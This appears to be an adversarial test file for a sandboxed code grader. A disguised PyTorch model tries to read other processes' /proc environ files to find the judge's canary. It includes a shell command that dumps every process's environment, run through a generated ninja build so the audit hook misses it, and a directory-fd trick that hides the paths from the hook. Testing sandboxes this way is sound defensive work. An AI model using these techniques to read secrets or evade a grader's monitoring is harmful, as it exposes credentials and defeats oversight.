# expected: correct|rejected|runtime_error
# kind: reading other processes' /proc entries relative to a /proc directory fd
# problem: problem_cpu.py
# breach_fails: yes
"""Looks for the suite's canary (KJ_ADV_CANARY, in the judging process's environment) in every
process's environ it can open: in ModelNew.__init__ by plain paths (no audit hook armed: only
what the kernel shows it, its own PID namespace, stands between it and the judge), and in its
first forward relative to a directory fd of /proc (os.open("N/environ", dir_fd=proc)),
which the audit hook sees only as a relative name. Any canary seen is a breach."""

import json
import os
import secrets
import shutil
import subprocess

import torch.nn as nn
import torch.nn.functional as F

TAG = "fault_proc_dir_fd_read"


def _mark(**facts):
    base = os.environ.get("TORCH_EXTENSIONS_DIR") or os.environ.get("KJ_ADV_DIR", "/tmp/kj_adv")
    try:
        os.makedirs(os.path.join(base, "kj_adv"), exist_ok=True)
        with open(os.path.join(base, "kj_adv", TAG + ".jsonl"), "a") as f:
            f.write(json.dumps(facts) + "\n")
    except OSError:
        pass


def _ninja(command):
    """Run a shell ``command`` the way a build would: as the rule of a ``build.ninja`` written
    in the scratch folder, through ``ninja``, a compiler tool the worker lets candidates start.
    What it does is out of the audit hook's sight: only the kernel's confinement applies."""
    ninja = shutil.which("ninja")
    if ninja is None:
        return
    here = os.path.join(os.getcwd(), f"kj_ninja_{secrets.token_hex(3)}")
    os.makedirs(here)
    with open(os.path.join(here, "build.ninja"), "w") as f:
        f.write("rule run\n  command = " + command.replace("$", "$$") + "\n")
        f.write("build never: run\n")
    subprocess.run([ninja, "-C", here], capture_output=True, timeout=60)


def _scan(dir_fd):
    seen, opened = [], 0
    for d in os.listdir("/proc"):
        if not d.isdigit() or int(d) == os.getpid():
            continue
        try:
            if dir_fd is None:
                fd = os.open(f"/proc/{d}/environ", os.O_RDONLY)
            else:
                fd = os.open(f"{d}/environ", os.O_RDONLY, dir_fd=dir_fd)
        except FileNotFoundError:
            continue
        try:
            opened += 1
            if b"KJ_ADV_CANARY=" in os.read(fd, 1 << 20):
                seen.append(d)
        finally:
            os.close(fd)
    return seen, opened


class ModelNew(nn.Module):
    def __init__(self, in_features: int, out_features: int):
        super().__init__()
        self.linear = nn.Linear(in_features, out_features)
        self.done = False
        found = os.path.join(os.getcwd(), "kj_canary_seen")
        environs = "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'"
        _ninja(f"{environs} | grep -c KJ_ADV_CANARY= > {found}")
        try:
            count = int(open(found).read().strip() or 0)
        except (OSError, ValueError):
            count = 0
        visible = [d for d in os.listdir("/proc") if d.isdigit()]
        _mark(note=f"processes visible in /proc: {len(visible)}")
        if count:
            _mark(breach=f"a shell started by ninja read the canary in {count} environ file(s)")

    def forward(self, x):
        if not self.done:
            self.done = True
            proc = os.open("/proc", os.O_RDONLY | os.O_DIRECTORY)
            try:
                seen, opened = _scan(proc)  # no try: the refusal is an expected outcome
            finally:
                os.close(proc)
            if seen:
                _mark(breach=f"read the canary of pid {seen[0]} through a /proc fd")
        return F.gelu(self.linear(x))
